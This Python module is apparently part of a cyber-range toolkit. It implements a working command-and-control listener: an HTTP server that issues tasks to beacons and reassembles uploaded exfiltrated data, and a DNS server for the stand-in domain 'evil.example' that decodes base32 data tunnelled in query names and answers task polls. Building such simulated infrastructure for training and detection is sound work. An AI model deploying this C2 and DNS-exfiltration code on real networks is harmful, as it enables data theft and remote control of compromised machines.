"""A command-and-control listener for twin hosts: HTTP beacons and uploads, or a DNS C2 server.

``python -m cyberrange.services.c2 --mode http --port 8443 --log F [--out DIR]``

  * ``GET|POST /<anything but /upload>`` is a beacon check-in: logged (time, peer, method, path,
    user agent, body length) and answered with a small JSON task ``{"id": n, "task": "..."}``;
  * ``POST /upload/<session>/<seq>`` stores one chunk of exfiltrated data;
    ``POST /upload/<session>/done`` with body ``{"chunks": n, "sha256": hex}`` reassembles the
    chunks into ``DIR/<session>.bin`` and answers ``{"ok": bool, "size": n, "sha256": hex}``.

  Every response closes the connection (HTTP/1.0), so the client's connection ends the same way
  each time (the server's FIN first).

``python -m cyberrange.services.c2 --mode dns --port 53 --domain evil.example --log F --out DIR``

  An authoritative server for ``--domain`` that answers every query and logs it (time, peer,
  qname, qtype, kind). Names it understands (labels read right to left, below the domain):

  * ``<b32>[.<b32>...].<seq>.<session>.d.<domain>``: data chunk ``seq`` (base32, no padding,
    lower case) of ``session``; answered with an A record 10.<seq mod 2^24>;
  * ``<chunks>.<sha256 first 16 hex>.<session>.f.<domain>``: end of ``session``: the chunks are
    joined, decoded, checked and written to ``DIR/<session>.bin``; A 10.0.0.1 if intact, else
    10.0.0.0;
  * ``<nonce>.<session>.p.<domain>`` (TXT): a beacon polling for a task; answered with a TXT
    record holding the task.

  The same names under a subdomain of the domain (``....d.x.<domain>``: a client tunnelling
  under ``x.<domain>``) are read the same way. Anything else under the domain gets an A record
  10.0.0.0; names outside it get REFUSED.
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import json
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from cyberrange.services.spec import Launch, ServiceSpec


def _argv(run: Launch) -> list[str]:
    svc = run.service
    mode = svc.type.split("-")[1]
    argv = run.serve("c2", "--mode", mode, "--out", str(run.run_dir / "exfil" / run.node))
    if mode == "dns":
        return argv + (["--domain", svc.domain] if svc.domain else [])
    return argv + (["--banner", svc.banner] if svc.banner else [])


C2_HTTP = ServiceSpec("c2-http", 8443, _argv, weight=2,
                      summary="C2 listener: HTTP beacons and uploads")
C2_DNS = ServiceSpec("c2-dns", 53, _argv, proto="udp",
                     summary="C2 listener: an authoritative DNS server for the C2 domain")


TASKS = ["sleep 60", "whoami", "hostname", "ipconfig /all", "netstat -an", "upload docs"]


class JsonLog:
    def __init__(self, path):
        self.fh = open(path, "a") if path else None
        self.lock = threading.Lock()

    def write(self, **rec) -> None:
        if self.fh:
            with self.lock:
                self.fh.write(json.dumps({"time": time.time(), **rec}) + "\n")
                self.fh.flush()


class Store:
    """Chunks of exfiltrated data per session, reassembled on demand into ``out/<session>.bin``."""

    def __init__(self, out):
        self.out = Path(out) if out else None
        self.chunks: dict[str, dict[int, bytes]] = {}
        self.lock = threading.Lock()

    def put(self, session: str, seq: int, data: bytes) -> None:
        with self.lock:
            self.chunks.setdefault(session, {})[seq] = data

    def finish(self, session: str, n: int, sha_prefix: str) -> tuple[bool, bytes]:
        with self.lock:
            parts = self.chunks.get(session, {})
            ok_parts = all(i in parts for i in range(n))
            data = b"".join(parts[i] for i in range(n) if i in parts)
        digest = hashlib.sha256(data).hexdigest()
        ok = ok_parts and digest.startswith(sha_prefix.lower())
        self.write(session, data)
        return ok, data

    def write(self, session: str, data: bytes) -> None:
        if self.out:
            self.out.mkdir(parents=True, exist_ok=True)
            (self.out / f"{_safe(session)}.bin").write_bytes(data)


def _safe(name: str) -> str:
    return "".join(c for c in name if c.isalnum() or c in "-_")[:64] or "session"


# --------------------------------------------------------------------------- HTTP
def make_http_handler(log: JsonLog, store: Store, banner: str):
    counter = {"n": 0}
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        server_version = banner
        sys_version = ""
        protocol_version = "HTTP/1.0"

        def _reply(self, code: int, obj) -> None:
            body = json.dumps(obj).encode()
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)

        def _body(self) -> bytes:
            n = int(self.headers.get("Content-Length") or 0)
            return self.rfile.read(min(n, 50_000_000)) if n > 0 else b""

        def _handle(self):
            body = self._body()
            parts = self.path.split("?")[0].strip("/").split("/")
            if self.command == "POST" and len(parts) == 3 and parts[0] == "upload":
                session = _safe(parts[1])
                if parts[2] == "done":
                    try:
                        meta = json.loads(body or b"{}")
                        ok, data = store.finish(session, int(meta["chunks"]), str(meta["sha256"]))
                    except (ValueError, KeyError, TypeError):
                        return self._reply(400, {"ok": False})
                    digest = hashlib.sha256(data).hexdigest()
                    log.write(peer=self.client_address[0], kind="upload-done", session=session,
                              size=len(data), sha256=digest, ok=ok)
                    return self._reply(200, {"ok": ok, "size": len(data), "sha256": digest})
                try:
                    seq = int(parts[2])
                except ValueError:
                    return self._reply(400, {"ok": False})
                store.put(session, seq, body)
                log.write(peer=self.client_address[0], kind="upload", session=session, seq=seq,
                          size=len(body))
                return self._reply(200, {"ok": True, "seq": seq})
            with lock:
                counter["n"] += 1
                n = counter["n"]
            task = {"id": n, "task": TASKS[(n - 1) % len(TASKS)]}
            log.write(peer=self.client_address[0], kind="beacon", method=self.command,
                      path=self.path, user_agent=self.headers.get("User-Agent", ""),
                      size=len(body), task=task["task"])
            return self._reply(200, task)

        do_GET = do_POST = _handle

        def log_message(self, fmt, *args):
            pass

    return Handler


def serve_http(args) -> None:
    ThreadingHTTPServer.allow_reuse_address = True
    ThreadingHTTPServer.daemon_threads = True
    srv = ThreadingHTTPServer((args.bind, args.port),
                              make_http_handler(JsonLog(args.log), Store(args.out), args.banner))
    srv.serve_forever()


# --------------------------------------------------------------------------- DNS
def _hex(label: str) -> bool:
    return bool(label) and all(c in "0123456789abcdef" for c in label)


def tunnel_labels(labels: list[str]) -> list[str]:
    """The labels of a name below the C2 domain, up to its kind marker (``d``, ``f``, ``p``).

    A client may tunnel under a subdomain of the C2 domain (``domain: x.evil.example`` with a
    server for ``evil.example``: ``playbook check`` accepts it, as a real authoritative server
    receives those names): the labels between the marker and the domain are dropped. The
    rightmost marker whose form fits wins, so a name right below the domain reads as before."""
    for k in range(len(labels) - 1, -1, -1):
        mark = labels[k]
        if (mark == "d" and k >= 3 and _hex(labels[k - 2])) or \
                (mark == "f" and k == 3 and _hex(labels[0])) or (mark == "p" and k == 2):
            return labels[:k + 1]
    return labels


class DnsC2:
    """Parses and answers the queries (scapy's DNS codec); one instance per server."""

    def __init__(self, domain: str, log: JsonLog, store: Store):
        self.domain = domain.strip(".").lower()
        self.log, self.store = log, store
        self.data: dict[str, dict[int, str]] = {}
        self.polls = 0

    def answer(self, query: bytes, peer: str) -> bytes | None:
        from scapy.layers.dns import DNS, DNSRR
        try:
            q = DNS(query)
            qd = q.qd[0] if hasattr(q.qd, "__getitem__") else q.qd
            qname = qd.qname.decode().rstrip(".").lower()
            qtype = int(qd.qtype)
        except Exception:           # noqa: BLE001 - not DNS: no answer
            return None
        kind, rdata, rtype = "other", "10.0.0.0", 1
        if not (qname == self.domain or qname.endswith("." + self.domain)):
            self.log.write(peer=peer, qname=qname, qtype=qtype, kind="refused")
            return bytes(DNS(id=q.id, qr=1, aa=0, rd=q.rd, rcode=5, qd=q.qd))
        labels = qname[: -len(self.domain)].rstrip(".").split(".") if qname != self.domain else []
        labels = tunnel_labels(labels)
        try:
            if len(labels) >= 4 and labels[-1] == "d":
                seq, session = int(labels[-3], 16), _safe(labels[-2])
                self.data.setdefault(session, {})[seq] = "".join(labels[:-3])
                kind, rdata = "data", f"10.{(seq >> 16) & 255}.{(seq >> 8) & 255}.{seq & 255}"
            elif len(labels) == 4 and labels[-1] == "f":
                n, prefix, session = int(labels[0], 16), labels[1], _safe(labels[2])
                parts = self.data.get(session, {})
                text = "".join(parts.get(i, "") for i in range(n)).upper()
                try:
                    data = base64.b32decode(text + "=" * (-len(text) % 8))
                except ValueError:
                    data = b""
                ok = all(i in parts for i in range(n)) and \
                    hashlib.sha256(data).hexdigest().startswith(prefix)
                self.store.write(session, data)
                kind, rdata = "end", "10.0.0.1" if ok else "10.0.0.0"
                self.log.write(peer=peer, kind="exfil-done", session=session, size=len(data),
                               sha256=hashlib.sha256(data).hexdigest(), ok=ok)
            elif len(labels) >= 3 and labels[-1] == "p":
                self.polls += 1
                kind, rtype = "poll", 16
                rdata = json.dumps({"id": self.polls, "task": TASKS[(self.polls - 1) % len(TASKS)]})
        except ValueError:
            kind = "malformed"
        self.log.write(peer=peer, qname=qname, qtype=qtype, kind=kind)
        rr = DNSRR(rrname=qd.qname, type=rtype, ttl=0, rdata=rdata if rtype == 1 else [rdata])
        return bytes(DNS(id=q.id, qr=1, aa=1, rd=q.rd, ra=0, qd=q.qd, an=rr))


def serve_dns(args) -> None:
    c2 = DnsC2(args.domain, JsonLog(args.log), Store(args.out))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sock.bind((args.bind, args.port))
    while True:
        query, (peer, port) = sock.recvfrom(4096)
        reply = c2.answer(query, peer)
        if reply:
            sock.sendto(reply, (peer, port))


def main(argv=None) -> None:
    ap = argparse.ArgumentParser(description="C2 listener (HTTP beacons/uploads or DNS C2)")
    ap.add_argument("--mode", choices=("http", "dns"), default="http")
    ap.add_argument("--port", type=int,
                    help=f"default {C2_HTTP.port} (http) or {C2_DNS.port} (dns)")
    ap.add_argument("--bind", default="0.0.0.0")
    ap.add_argument("--domain", default="evil.example", help="DNS mode: the C2 domain")
    ap.add_argument("--banner", default="nginx", help="HTTP mode: Server header")
    ap.add_argument("--log", help="JSON lines log of every check-in / query")
    ap.add_argument("--out", help="folder for reassembled exfiltrated data")
    a = ap.parse_args(argv)
    if a.port is None:
        a.port = (C2_HTTP if a.mode == "http" else C2_DNS).port
    try:
        (serve_http if a.mode == "http" else serve_dns)(a)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
